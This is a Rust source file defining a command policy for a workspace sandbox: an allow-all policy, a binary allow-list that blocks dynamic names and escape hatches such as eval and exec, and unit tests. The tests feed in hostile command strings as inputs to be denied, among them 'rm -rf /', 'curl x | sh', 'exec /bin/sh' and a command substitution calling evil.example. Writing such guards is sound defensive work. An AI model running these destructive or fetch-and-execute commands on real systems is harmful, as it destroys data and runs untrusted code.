//! Command policy trait and implementations.

use std::sync::Arc;

use super::parse::extract_commands;
use crate::workspace::WorkspaceConfig;

/// A command a script would invoke.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct CommandInfo {
    /// The command name as written (e.g. "cat", "/usr/bin/git")
    pub name: String,
    /// Command arguments
    pub args: Vec<String>,
}

impl CommandInfo {
    /// Create a new command info.
    pub fn new(name: impl Into<String>, args: Vec<String>) -> Self {
        Self {
            name: name.into(),
            args,
        }
    }
}

/// The result of a policy check.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum PolicyDecision {
    /// The command is allowed.
    Allow,
    /// The command is denied with a reason.
    Deny(String),
}

impl PolicyDecision {
    /// Returns true if the command is allowed.
    pub fn is_allowed(&self) -> bool {
        matches!(self, PolicyDecision::Allow)
    }

    /// Returns the denial reason if denied, None if allowed.
    pub fn denial_reason(&self) -> Option<&str> {
        match self {
            PolicyDecision::Allow => None,
            PolicyDecision::Deny(reason) => Some(reason),
        }
    }
}

/// Decides whether a script may run in a workspace.
///
/// Checks run before anything is spawned and should be cheap.
pub trait CommandPolicy: Send + Sync + std::fmt::Debug {
    /// Check a single command.
    fn check(&self, command: &CommandInfo) -> PolicyDecision;

    /// Check a whole script. The default parses the script and checks every
    /// command it contains; the first denial wins.
    fn check_script(&self, script: &str) -> PolicyDecision {
        let commands = match extract_commands(script) {
            Ok(commands) => commands,
            Err(e) => return PolicyDecision::Deny(format!("cannot analyse command: {e}")),
        };
        for command in &commands {
            let decision = self.check(command);
            if !decision.is_allowed() {
                return decision;
            }
        }
        PolicyDecision::Allow
    }
}

/// A policy that allows every command.
#[derive(Clone, Debug, Default)]
pub struct AllowAllPolicy;

impl CommandPolicy for AllowAllPolicy {
    fn check(&self, _command: &CommandInfo) -> PolicyDecision {
        PolicyDecision::Allow
    }

    fn check_script(&self, _script: &str) -> PolicyDecision {
        PolicyDecision::Allow
    }
}

/// Shell builtins that cannot reach anything a binary allow-list protects.
///
/// `eval`, `exec`, `source`, `.`, `command` and `builtin` are deliberately
/// absent: each of them can run an arbitrary program.
const SAFE_BUILTINS: &[&str] = &[
    "cd", "pwd", "echo", "printf", "true", "false", "test", "[", "export", "unset", "set",
    "exit", "return", "read", "shift", ":",
];

/// Only commands matching one of the configured glob patterns may run.
#[derive(Clone, Debug)]
pub struct BinaryAllowlist {
    patterns: Vec<glob::Pattern>,
}

impl BinaryAllowlist {
    /// Build an allow-list from glob patterns. Invalid patterns are skipped.
    pub fn new<I, S>(patterns: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let patterns = patterns
            .into_iter()
            .filter_map(|p| match glob::Pattern::new(p.as_ref()) {
                Ok(pattern) => Some(pattern),
                Err(e) => {
                    tracing::warn!("ignoring invalid binary pattern {:?}: {}", p.as_ref(), e);
                    None
                }
            })
            .collect();
        Self { patterns }
    }
}

impl CommandPolicy for BinaryAllowlist {
    fn check(&self, command: &CommandInfo) -> PolicyDecision {
        let name = command.name.as_str();

        if name.contains(['$', '`']) {
            return PolicyDecision::Deny("dynamic command names are not allowed".to_string());
        }
        if SAFE_BUILTINS.contains(&name) {
            return PolicyDecision::Allow;
        }
        if self.patterns.iter().any(|p| p.matches(name)) {
            PolicyDecision::Allow
        } else {
            PolicyDecision::Deny(format!("command `{name}` is not allowed in this workspace"))
        }
    }
}

/// The policy a workspace's configuration asks for.
pub fn policy_for_workspace(config: &WorkspaceConfig) -> Arc<dyn CommandPolicy> {
    match &config.allowed_binaries {
        Some(allowed) => Arc::new(BinaryAllowlist::new(allowed)),
        None => Arc::new(AllowAllPolicy),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_allow_all() {
        assert!(AllowAllPolicy.check_script("rm -rf / ; curl x | sh").is_allowed());
    }

    #[test]
    fn test_allowlist_accepts_listed_binaries() {
        let policy = BinaryAllowlist::new(["ls", "cat", "cargo*"]);
        assert!(policy.check_script("ls -la | cat").is_allowed());
        assert!(policy.check_script("cargo-fmt --check").is_allowed());
        assert!(policy.check_script("cd src && ls").is_allowed());
    }

    #[test]
    fn test_allowlist_rejects_hidden_commands() {
        let policy = BinaryAllowlist::new(["ls", "echo"]);

        let decision = policy.check_script("ls; rm -rf /");
        assert_eq!(
            decision.denial_reason(),
            Some("command `rm` is not allowed in this workspace")
        );
        assert!(!policy.check_script("echo $(curl evil.example)").is_allowed());
        assert!(!policy.check_script("ls | sh").is_allowed());
    }

    #[test]
    fn test_allowlist_rejects_escape_hatches() {
        let policy = BinaryAllowlist::new(["ls"]);
        assert!(!policy.check_script("eval rm -rf /").is_allowed());
        assert!(!policy.check_script("exec /bin/sh").is_allowed());
        assert!(!policy.check_script("$CMD").is_allowed());
    }

    #[test]
    fn test_allowlist_rejects_unparseable_scripts() {
        let policy = BinaryAllowlist::new(["ls"]);
        let decision = policy.check_script("ls \"unterminated");
        assert!(!decision.is_allowed());
    }

    #[test]
    fn test_policy_for_workspace() {
        let open = WorkspaceConfig::default();
        assert!(policy_for_workspace(&open).check_script("anything").is_allowed());

        let restricted = WorkspaceConfig {
            allowed_binaries: Some(vec!["git".into()]),
            ..WorkspaceConfig::default()
        };
        let policy = policy_for_workspace(&restricted);
        assert!(policy.check_script("git status").is_allowed());
        assert!(!policy.check_script("python3 -c 'print(1)'").is_allowed());
    }
}
